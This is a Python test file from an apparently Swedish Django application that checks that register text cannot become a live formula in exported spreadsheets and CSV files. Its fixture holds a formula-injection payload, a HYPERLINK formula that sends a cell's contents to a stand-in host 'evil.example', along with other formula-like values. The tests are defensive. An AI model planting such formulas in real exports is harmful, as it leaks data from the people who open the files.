"""No text from the register becomes a live formula in a report's workbook or in the open data (issue 14.5)."""

import csv
import datetime
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from utblick.engagements.choices import Kind, Status
from utblick.engagements.tests.factories import EngagementFactory
from utblick.followup import reports
from utblick.strategies.models import Direction, MandatePeriod
from utblick.strategies.tests.factories import strategy_for

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A3,"Klicka här")'
pytestmark = pytest.mark.requirement("X-6")


@pytest.fixture
def hostile_engagement(world):
    strategy_for(world.org_a)
    engagement = EngagementFactory(
        owner_unit=world.unit_a,
        kind=Kind.VISIT,
        title=FORMULA,
        status=Status.ONGOING,
        starts_on=datetime.date(2024, 2, 1),
        description="+46 470 41 000",
        achieved_results="@SUM(A1:A9)",
        expected_results="-1+1",
        published=True,
    )
    engagement.directions.set(Direction.objects.filter(code="profilering"))
    return engagement


def _cells_with(workbook, text: str) -> list:
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def _no_formulas(workbook) -> None:
    assert not [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("kind", ["year", "mandate"])
def test_a_title_that_looks_like_a_formula_is_plain_text_in_the_report_workbooks(world, hostile_engagement, kind):
    if kind == "year":
        report = reports.build_year_report(organisation=world.org_a, year=2024)
    else:
        period = MandatePeriod.for_date(datetime.date(2024, 2, 1))
        report = reports.build_mandate_review(organisation=world.org_a, period=period, conclusions="=1+1")
    workbook = load_workbook(io.BytesIO(reports.render(report, "xlsx")))
    titles = _cells_with(workbook, FORMULA)
    assert titles and all(cell.data_type == "s" and cell.quotePrefix for cell in titles)  # shown as written
    assert all(cell.quotePrefix for cell in _cells_with(workbook, "@SUM(A1:A9)"))
    _no_formulas(workbook)
    if kind == "mandate":
        assert _cells_with(workbook, "=1+1")[0].quotePrefix
        years = [row[0] for row in workbook["Efterlevnad"].iter_rows(min_row=2, values_only=True)]
        assert years and all(isinstance(year, int) for year in years)  # numbers stay numbers


def test_open_data_and_the_decidim_file_neutralise_formulas(world, hostile_engagement):
    client = Client()
    rows = list(csv.DictReader(io.StringIO(client.get(f"/public/{world.org_a.slug}/open-data.csv").content.decode())))
    assert rows[0]["title"] == "'" + FORMULA
    assert rows[0]["description"] == "'+46 470 41 000" and rows[0]["achieved_results"] == "'@SUM(A1:A9)"
    assert rows[0]["id"] == str(hostile_engagement.pk)
    decidim = list(
        csv.reader(
            io.StringIO(client.get(f"/public/{world.org_a.slug}/decidim-results.csv").content.decode()), delimiter=";"
        )
    )
    assert decidim[1][2] == "'" + FORMULA and decidim[1][7] == "50"  # progress stays a number
    # The JSON is data, not a spreadsheet: it keeps the text exactly as written.
    assert client.get(f"/public/{world.org_a.slug}/open-data.json").json()["engagements"][0]["title"] == FORMULA
